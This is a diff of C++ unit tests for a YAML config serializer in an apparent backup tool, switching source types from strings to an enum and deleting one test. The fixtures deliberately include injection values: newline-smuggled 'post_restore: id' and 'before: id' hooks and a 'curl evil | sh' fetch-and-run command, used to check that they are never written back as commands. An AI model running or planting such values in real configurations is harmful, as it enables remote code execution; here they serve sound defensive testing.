@@ -29,8 +29,8 @@ TEST_CASE("rebuilt_yaml: paths with YAML in them load back as the same string, w
                                  "/srv/{x}, [y], &z *w !t |", "/srv/\t\r\x01 tab", "/srv/\xc2\x85nel\xe2\x80\xa8ls"};
   auto c = sample();
   for (size_t i = 0; i < std::size(hostile); ++i)
-    c.plans["home"].push_back({"s" + std::to_string(i), "dir", hostile[i]});
-  c.plans["db"].push_back({"main", "sqlite", "/var/db/x\"\npost_restore: id"});
+    c.plans["home"].push_back({"s" + std::to_string(i), source_type::dir, hostile[i]});
+  c.plans["db"].push_back({"main", source_type::sqlite, "/var/db/x\"\npost_restore: id"});
   auto text = rebuilt_yaml(c);
   CAPTURE(text);
   auto back = parse_config(text, "/tmp/rebuilt.yaml");
@@ -58,9 +58,9 @@ TEST_CASE("rebuilt_yaml: paths with YAML in them load back as the same string, w
 
 TEST_CASE("rebuilt_yaml: a command from the target is never written as a command") {
   auto c = sample();
-  c.plans["home"].push_back({"alice", "dir", "/home/alice"});
-  c.plans["home"].push_back({"dump", "command", "curl evil | sh\n  post_restore: touch /tmp/pwned"});
-  c.plans["apps"].push_back({"notes", "resource", "/etc/cairn/resources.d/notes.yaml"});
+  c.plans["home"].push_back({"alice", source_type::dir, "/home/alice"});
+  c.plans["home"].push_back({"dump", source_type::command, "curl evil | sh\n  post_restore: touch /tmp/pwned"});
+  c.plans["apps"].push_back({"notes", source_type::resource, "/etc/cairn/resources.d/notes.yaml"});
   auto text = rebuilt_yaml(c);
   CAPTURE(text);
   auto back = parse_config(text, "/tmp/rebuilt.yaml");
@@ -82,10 +82,9 @@ TEST_CASE("rebuilt_yaml: a command from the target is never written as a command
 
 TEST_CASE("rebuilt_yaml: names that are not plain names are left out, never written") {
   auto c = sample();
-  c.plans["ok"].push_back({"x\n  post_restore: id", "dir", "/a"});
-  c.plans["ok"].push_back({"fine", "dir", "/b"});
-  c.plans["ok"].push_back({"odd", "dir\nbefore: id", "/c"});
-  c.plans["bad\nbefore: id"].push_back({"fine", "dir", "/b"});
+  c.plans["ok"].push_back({"x\n  post_restore: id", source_type::dir, "/a"});
+  c.plans["ok"].push_back({"fine", source_type::dir, "/b"});
+  c.plans["bad\nbefore: id"].push_back({"fine", source_type::dir, "/b"});
   auto text = rebuilt_yaml(c);
   CAPTURE(text);
   auto back = parse_config(text, "/tmp/rebuilt.yaml");
@@ -96,15 +95,3 @@ TEST_CASE("rebuilt_yaml: names that are not plain names are left out, never writ
   CHECK(back->plans[0].before.empty());
 }
 
-TEST_CASE("rebuilt_yaml: repo's source type words are config's source types") {
-  size_t n = 0;
-  for (auto word : repo::known_source_types) {
-    auto t = parse_source_type(word);
-    REQUIRE(t);
-    CHECK(to_string(*t) == word);
-    ++n;
-  }
-  for (auto t : {source_type::dir, source_type::sqlite, source_type::command, source_type::resource})
-    CHECK(repo::is_source_type_word(to_string(t)));
-  CHECK(n == 4);
-}
